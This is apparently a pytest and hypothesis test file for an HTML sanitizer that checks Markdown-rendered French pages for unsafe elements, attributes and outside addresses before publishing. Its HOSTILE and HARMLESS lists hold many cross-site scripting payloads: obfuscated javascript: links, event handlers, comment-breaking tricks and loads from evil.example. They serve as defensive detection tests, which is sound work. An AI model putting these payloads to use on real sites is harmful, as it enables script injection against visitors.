"""HTML examined once: what is not fit to publish is told, addresses become references."""

from __future__ import annotations

from dataclasses import dataclass
from html import escape
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.strategies import disguised, html_mixtures, plain_html
from tests.values import told
from tests.watch import HERE, Watch
from vigie.problems import Report
from vigie.prose import Body, Heading, Prose, Reference
from vigie.reading.body import Source, examine

if TYPE_CHECKING:
    from lxml import etree


@dataclass(frozen=True)
class Examined:
    """A body with its prose."""

    body: Body
    prose: Prose

    @property
    def references(self) -> tuple[Reference, ...]:
        """Those of the body."""
        return self.body.references

    def html(self, addresses: tuple[str, ...]) -> str:
        """Return the prose with an address for each reference."""
        fillings: list[str] = []
        for reference, address in zip(self.references, addresses, strict=True):
            fillings += (f'<img src="{address}"', "") if reference.picture else (address,)
        return self.prose.html(tuple(fillings))


def examined(html: str, markdown: str | None = None) -> tuple[Examined, list[str]]:
    """Return what HTML makes, and what is told of it; its text begins on line 1."""
    report = Report("fr.md")
    source = Source(html if markdown is None else markdown, 1)
    return Examined(*examine(html, source, report)), told(report)


def good(html: str) -> Examined:
    """Return what HTML without a mistake makes."""
    made, problems = examined(html)
    assert problems == []
    return made


def published(html: str) -> str:
    """Return the HTML that a page would hold."""
    made = examined(html)[0]
    return made.html((HERE,) * len(made.references))


def whole(made: Examined) -> str:
    """Return the HTML with what the writer wrote at each reference."""
    return made.html(tuple(escape(reference.target) for reference in made.references))


@pytest.mark.parametrize(
    "html",
    [
        "<p>Un <em>mot</em> &amp; deux &lt; trois.</p>",
        "texte sans élément",
        '<p>a</p>\n<h2 id="b">c</h2>\n<ul>\n<li>d</li>\n</ul>',
        '<p><a href="../x/fr.md#b">y</a> et <a href="https://example.org/?a=1&amp;b=2">z</a></p>',
        '<figure><img src="b.png" alt="a" title="c"><figcaption>d</figcaption></figure>',
        '<p><img src="b.png" alt="a &gt; b" title="c">“d”</p>',
        '<p><img src="b.png" alt="a">"d"<img src="c.png" alt="e"></p>',
        '<table>\n<thead>\n<tr>\n<th class="align-left">a</th>\n</tr>\n</thead>\n</table>',
        "<pre><code>&lt;a href='nowhere'&gt;\n\n  x\n</code></pre>",
        '<video controls src="a.mp4" poster="b.png"><track src="c.vtt" srclang="fr"></video>',
        '<picture><source srcset="a.png"><img alt="b" src="c.png"></picture>',
        "<p>long<wbr>ou<wbr>court</p>",
        '<p lang="en" dir="ltr" data-a="1" aria-label="b">c</p>',
        "<details open><summary>a</summary>b</details>",
        '<ol start="3" reversed><li value="5">a</li></ol>',
    ],
)
def test_html_that_is_fit_to_publish_is_left_as_it_is(html: str) -> None:
    made, problems = examined(html)
    assert problems == []
    assert whole(made) == html


def test_nothing_makes_an_empty_body() -> None:
    assert examined("") == (Examined(Body(), Prose()), [])
    assert examined(" \n") == (Examined(Body(), Prose()), [])
    assert examined("<!-- une note -->") == (Examined(Body(), Prose()), [])


def test_a_comment_is_never_published() -> None:
    made, problems = examined("<p>a<!-- secret --></p><!-- secret --><p>b</p>")
    assert problems == []
    assert made.prose == Prose(parts=("<p>a</p><p>b</p>",), words=2)


def test_addresses_inside_the_site_become_references_in_their_order() -> None:
    html = '<p><a href="b.md">x</a> <img alt="y" src=" c.png "></p>\n<p><a href="#d">z</a></p>'
    made = good(html)
    assert made.prose.parts == (
        *('<p><a href="', '">x</a> ', ' alt="y">', '</p>\n<p><a href="', '">z</a></p>'),
    )
    assert made.references == (
        Reference(target="b.md", line=1, embedded=False),
        Reference(target="c.png", line=1, embedded=True, picture=True),
        Reference(target="#d", line=2, embedded=False),
    )


@pytest.mark.parametrize(
    ("html", "embedded"),
    [
        ('<a href="x">y</a>', False),
        ('<q cite="x">y</q>', False),
        ('<img alt="y" src="x">', True),
        ('<video poster="x"></video>', True),
        ('<picture><source srcset="x"></picture>', True),
    ],
)
def test_what_a_page_shows_is_told_from_what_it_links_to(html: str, embedded: object) -> None:
    (reference,) = good(html).references
    assert (reference.target, reference.embedded) == ("x", embedded)


def test_every_picture_of_a_set_is_a_reference() -> None:
    made = good('<img alt="a" src="a.png" srcset="b.png 1x,c.png  2x , d.png">')
    assert [reference.target for reference in made.references] == [
        *("a.png", "b.png", "c.png", "d.png")
    ]
    assert made.html(("1", "2", "3", "4")) == '<img alt="a" src="1" srcset="2 1x, 3 2x, 4">'


@pytest.mark.parametrize(
    "address",
    ["https://example.org/", "HTTP://EXAMPLE.ORG", "mailto:a@example.org", "tel:+1-613-555-0100"],
)
def test_addresses_outside_the_site_stay_as_they_are(address: str) -> None:
    html = f'<a href="{address}">x</a>'
    assert good(html).prose == Prose(parts=(html,), words=1)


def test_a_space_that_does_not_break_before_an_address_does_not_count() -> None:
    assert good('<a href="\u00a0https://example.org/ ">x</a>').prose.parts == (
        '<a href="https://example.org/">x</a>',
    )
    (reference,) = good('<a href="\u00a0x.md">x</a>').references
    assert reference.target == "x.md"


def test_a_space_inside_an_address_is_told() -> None:
    assert examined('<a href="https://example.org/a b">x</a>')[1] == [
        "1: a space inside “https://example.org/ab”; write %20 in its place"
    ]


@pytest.mark.parametrize("address", ["https:example.org", "http:/example.org", "https://"])
def test_an_address_that_lacks_a_slash_is_told(address: str) -> None:
    assert examined(f'<a href="{address}">x</a>')[1] == [
        (
            f"1: “{address}” is not an address that readers can follow; "
            "write an address that begins with https://"
        )
    ]


def test_an_address_that_nobody_can_read_is_told() -> None:
    assert examined('<a href="https://[::1">x</a>')[1] == [
        "1: “https://[::1” is not an address; write it whole, e.g. https://example.org/"
    ]


def test_a_picture_from_another_site_is_told() -> None:
    assert examined('<img alt="x" src="https://example.org/x.png">')[1] == [
        (
            "1: “https://example.org/x.png” would be loaded from another site; "
            "put the file beside the text and write its name"
        )
    ]


def test_a_picture_without_a_description_is_told() -> None:
    expected = (
        "3: a picture without a description; write ![what it shows](file.png), "
        "or add {: role=presentation } to mere decoration"
    )
    for alt in ("", 'alt=""'):
        html = f'<p><img {alt} src="x.png"></p>'
        assert examined(html, "Un mot.\n\n![](x.png)")[1] == [expected]
    assert examined('<img src="x.png" role="presentation">')[1] == []


def test_headings_and_anchors_are_for_the_table_of_contents() -> None:
    made = good('<h2 id="a">Un <em>mot</em>\n ici</h2><h4>Sans ancre</h4><p id="b">c</p>')
    assert made.prose.headings == (
        Heading(level=2, anchor="a", text="Un mot ici"),
        Heading(level=4, anchor="", text="Sans ancre"),
    )
    assert made.body.anchors == {"a", "b"}


def test_the_number_of_a_note_is_no_part_of_a_heading() -> None:
    call = '<sup id="fnref:a"><a class="footnote-ref" href="#fn:a">8</a></sup>'
    made = good(f'<h2 id="a">Deuxième <em>partie</em>{call} ici</h2><ol><li id="fn:a">x</ol>')
    assert [heading.text for heading in made.prose.headings] == ["Deuxième partie ici"]


def test_a_heading_of_the_first_level_is_told() -> None:
    assert examined("<h1>Un titre</h1>", "mot\n\n# Un titre")[1] == [
        (
            "3: a heading of the first level; "
            "begin the headings of a text with “##”: the title is the only first level"
        )
    ]


def test_an_anchor_given_twice_is_told() -> None:
    assert examined('<p id="a">x</p>\n<p id="a">y</p>')[1] == [
        "2: the anchor “a” is given twice; give each its own, e.g. {#other}"
    ]


def test_the_alignment_of_a_table_becomes_a_class() -> None:
    assert published('<td style="text-align: right;">1</td>') == '<td class="align-right">1</td>'
    assert published('<td class="a" style="text-align:left">1</td>') == (
        '<td class="a align-left">1</td>'
    )


def test_words_are_counted_in_the_text_only() -> None:
    assert good('<p title="a b c">Un <em>deux</em> trois</p>').prose.words == 3


def test_mistakes_are_told_with_their_lines() -> None:
    markdown = 'Un\n\n<b onclick="x">a</b>\n\n[b](javascript:x)\n\n<script>c</script>\n'
    html = (
        '<p>Un</p><p><b onclick="x">a</b></p><p><a href="javascript:x">b</a></p><script>c</script>'
    )
    assert examined(html, markdown)[1] == [
        "3: the HTML attribute “onclick” cannot be published; take it out",
        (
            "5: “javascript:x” is not an address that readers can follow; "
            "write an address that begins with https://"
        ),
        "7: the HTML element <script> cannot be published; write Markdown, or take it out",
    ]


def test_the_same_mistake_twice_is_told_on_both_lines() -> None:
    markdown = "<b onclick=x>a</b>\n\n<b onclick=x>a</b>"
    assert [
        problem.partition(":")[0] for problem in examined(f"<p>{markdown}</p>", markdown)[1]
    ] == [*("1", "3")]


LOST = (
    "a part of the text would be lost; "
    "close every tag, quotation mark and comment; leave out </body> and </html>"
)


@pytest.mark.parametrize(
    ("html", "line"),
    [
        ("<p>a</p>\n</body>\n<p>b</p>", 2),
        ("<p>a</p>\n</body></html>\nb", 2),
        ("a\n\n</HTML>\n<p>b</p>", 1),
        ("<p>a</p>\n<!-- b\n<p>c</p>", 2),
        ('<p>a</p>\n<p title="b>c</p>', 1),
        ('<a href="b>c</a>\n\n<p>d</p>', 1),
        (f"<p>a</p>{'<div>' * 3000}b", 1),
        (f"<p>a</p>{'<div>' * 3000}b{'</div>' * 3000}<p>c</p>", 1),
    ],
)
def test_a_text_that_would_break_off_is_told(html: str, line: int) -> None:
    assert f"{line}: {LOST}" in examined(html)[1]


@pytest.mark.parametrize(
    ("html", "mended"),
    [
        ("<div>a", "<div>a</div>"),
        ("a</div>b", "ab"),
        ("<p>a<b>b</p>c", "<p>a<b>b</b></p>c"),
        ("<ul><li>a<li>b", "<ul><li>a</li><li>b</li></ul>"),
        ("a &amp b < c", "a &amp; b &lt; c"),
    ],
)
def test_what_a_browser_would_mend_is_mended(html: str, mended: str) -> None:
    assert good(html).prose.parts == (mended,)


@pytest.mark.parametrize("character", ["&#1;", "&#12;", "&#x7f;", "&#xFFFF;", "\x02", "\x80"])
def test_an_invisible_control_character_is_told(character: str) -> None:
    assert examined(f"<p>a\n{character}b</p>")[1] in (
        ["1: an invisible control character; take it out"],
        ["2: an invisible control character; take it out"],
    )


@pytest.mark.parametrize(
    "html",
    [
        '<img alt="x" src="x.png" srcset="x.png &#1;">',
        '<p class="&#2;" style="text-align:left">x</p>',
        '<a href="&#x7f;x">y</a>',
        '<p title="&#12;">x</p>',
    ],
)
def test_an_invisible_control_character_in_an_attribute_is_told(html: str) -> None:
    assert set(examined(html)[1]) == {"1: an invisible control character; take it out"}


HOSTILE = (
    # Scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script/x>alert(1)</script/x>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<p title="</title><script>x</script>"><script>alert(1)</script></p>',
    # Handlers and styles
    "<p onclick=alert(1)>x</p>",
    "<P ONCLICK='alert(1)'>x</P>",
    "<p/onclick=alert(1)>x</p>",
    "<p \tonmouseover\n=\nalert(1)>x</p>",
    '<p "onclick=alert(1)">x</p>',
    "<p 'x'onclick=alert(1)>x</p>",
    "<p on\x00click=alert(1)>x</p>",
    "<img alt=x src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video onloadstart=alert(1) src=x></video>",
    '<p style="background:url(//evil.example/x)">x</p>',
    '<p style="text-align:left;position:fixed">x</p>',
    "<style>@import '//evil.example/x';</style>",
    # Elements that load, replace or send
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<applet code="x"></applet>',
    '<form action="https://evil.example/"><input name=a><button>b</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option>x</option></select>",
    "<textarea></textarea><p>x</p>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><p onclick=alert(1)>x</p></template>",
    "<slot>x</slot>",
    "<portal src=x></portal>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>x</p></noscript>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<plaintext>x",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><script>alert(1)</script></title>",
    "<noembed><script>alert(1)</script></noembed>",
    "<image src=x>",
    "<x-element>x</x-element>",
    "<custom:element>x</custom:element>",
    # Addresses
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&#58alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="blob:https://evil.example/x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="view-source:https://example.org/">x</a>',
    '<a href="//evil.example/">x</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a xml:base="javascript:alert(1)" href="x">x</a>',
    '<a href="x" ping="https://evil.example/">x</a>',
    '<a href="x" target="_blank">x</a>',
    '<a href="x" download="y.exe">x</a>',
    # Pictures and films from elsewhere
    '<img alt="x" src="https://evil.example/x.png">',
    '<img alt="x" src="//evil.example/x.png">',
    '<img alt="x" src="/\t/evil.example/x.png">',
    '<img alt="x" src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img alt="x" src="x.png" srcset="https://evil.example/x.png 2x">',
    '<img alt="x" src="x.png" srcset="x.png 1x,//evil.example/x.png 2x">',
    '<img alt="x" src="x.png" srcset="x.png 1x (, //evil.example/x.png 2x">',
    '<img alt="x" src="x.png" srcset="data:,x 1x">',
    '<img alt="x" src="x.png" usemap="#a">',
    '<img alt="x" src="x.png" lowsrc="https://evil.example/x.png">',
    '<img alt="x" dynsrc="javascript:alert(1)">',
    '<video poster="https://evil.example/x.png"></video>',
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    '<audio><source src="https://evil.example/x.mp3"></audio>',
    '<video><track src="https://evil.example/x.vtt"></video>',
    # Ends and beginnings that are not
    "</body></html><script>alert(1)</script>",
    "</p></div></body><img src=x onerror=alert(1)>",
    "<p>x</p><!--><script>alert(1)</script>-->",
    "<p>x</p><!---><script>alert(1)</script>-->",
    "<p>x</p><!-- --!><script>alert(1)</script>-->",
    "<p>x</p><!-- <!-- --> <script>alert(1)</script> -->",
    "<p>x</p><!-- <script>alert(1)</script>",
    "<p>x<script",
    "<p <script>alert(1)</script>",
    '<p title="x><script>alert(1)</script>',
    "<p aria-<script>x</p>",
    '<p data-"onclick="alert(1)">x</p>',
    '<p =onclick="alert(1)">x</p>',
)
HARMLESS = (
    "<body title='><script>alert(1)</script>'>",
    "<body onload=alert(1)><p>x</p>",
    "<html onclick=alert(1)><p>x</p>",
    '<p title="<script>alert(1)</script>">x</p>',
    '<p title="--><script>alert(1)</script>">x</p>',
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p title='&quot;><script>alert(1)</script>'>x</p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&amp;lt;script&amp;gt;</p>",
    "<!-- <script>alert(1)</script> --><p>x</p>",
    "<!-- a -- > <script>alert(1)</script> --><p>x</p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<!DOCTYPE html><p>x</p>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'><p>&x;</p>",
    "</script><p>x</p>",
    '<a href="\\\\evil.example\\x">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="java\u00adscript:alert(1)">x</a>',
    '<a href="\uff4aavascript:alert(1)">x</a>',
    '<a href="./javascript:alert(1)">x</a>',
    '<a href="?javascript:alert(1)">x</a>',
    '<img alt="x" src="\\\\evil.example\\x.png">',
    '<img alt="`onerror=alert(1) x" src="x.png">',
    "<table><a href=x>y</a><tr><td><table><td></table></table>",
    "<a href=x><a href=y>z</a></a>",
)


@pytest.mark.parametrize("html", HOSTILE)
def test_a_hostile_body_is_told(html: str) -> None:
    assert examined(html)[1] != []


@pytest.mark.parametrize("html", HARMLESS)
def test_a_body_that_only_looks_hostile_is_published_without_anything_active(html: str) -> None:
    made, problems = examined(html)
    assert problems == []
    assert Watch(made.html((HERE,) * len(made.references))).active == []


@pytest.mark.parametrize(
    "html",
    [
        *("<script>x</script>", "<p onclick=x>", "<a href=javascript:x>", "<!-- x -->", "<svg>"),
        *("<a href=' java\tscript:x'>", "<img src=//x>", "<img srcset='/here, //x 2x'>", "<?x>"),
        *("<a xlink:href=x>", "<p style=x>", "<a href=//x>", "<!DOCTYPE x>", "<![CDATA[x]]>"),
    ],
)
def test_the_watch_of_these_tests_sees_what_is_active(html: str) -> None:
    assert Watch(html).active != []


@given(html_mixtures())
@example("<table><svg></table><p>")
@example("<p><a href='x'><a href='y'>")
def test_whatever_is_not_told_is_published_without_anything_active(html: str) -> None:
    made, problems = examined(html)
    pictures = sum(reference.picture for reference in made.references)
    assert len(made.prose.parts) == len(made.references) + pictures + 1
    assert problems or Watch(made.html((HERE,) * len(made.references))).active == []


@given(disguised("javascript:alert(1)") | disguised("vbscript:x") | disguised("data:text/html,x"))
def test_no_disguise_hides_what_an_address_runs(address: str) -> None:
    for element in (f'<a href="{address}">x</a>', f'<img alt="x" src="{address}">'):
        assert examined(element)[1] != []


@given(disguised("https://evil.example/x.png") | disguised("//evil.example/x.png"))
def test_no_disguise_hides_a_picture_from_elsewhere(address: str) -> None:
    assert examined(f'<img alt="x" src="{address}">')[1] != []


@given(plain_html())
def test_the_parts_and_references_put_together_again_are_the_html(html: str) -> None:
    made, problems = examined(html)
    assert problems == []
    assert whole(made) == html


@given(plain_html(), st.integers(min_value=1, max_value=3))
def test_every_reference_needs_its_address(html: str, missing: int) -> None:
    made = good(f'{html}<a href="x">y</a>')
    fillings = (HERE,) * (len(made.prose.parts) - 1 + missing)
    with pytest.raises(ValueError, match="zip"):
        made.prose.html(fillings)
    with pytest.raises(ValueError, match="zip"):
        made.prose.html(())


@given(st.text(), st.text(min_size=1, max_size=3), st.integers(min_value=1, max_value=99))
def test_a_line_is_one_of_the_text(text: str, fragment: str, first_line: int) -> None:
    source = Source(text, first_line)
    lines = range(first_line, first_line + text.count("\n") + 1)
    found = [source.line(fragment) for _ in range(3)]
    assert all(line in lines for line in found)
    assert source.last_line(fragment, "x") in lines
    if fragment in text and "\n" not in fragment:
        assert all(fragment in text.split("\n")[line - first_line] for line in found)


def test_a_body_is_examined_as_it_was_written_and_kept_as_it_is_set() -> None:
    def typeset(root: etree._Element) -> None:
        for element in root.iter("h2", "p"):
            element.text = (element.text or "").replace("'", "’")

    html = "<h2>L'été</h2><p>l'<a href=\"l'eau.md\">eau</a></p>"
    report = Report("fr.md")
    body, prose = examine(html, Source(html, 1), report, typeset)
    assert report.problems == []
    assert prose.headings == (Heading(level=2, anchor="", text="L’été"),)
    assert [reference.target for reference in body.references] == ["l'eau.md"]
    assert prose.html(("x",)) == '<h2>L’été</h2><p>l’<a href="x">eau</a></p>'
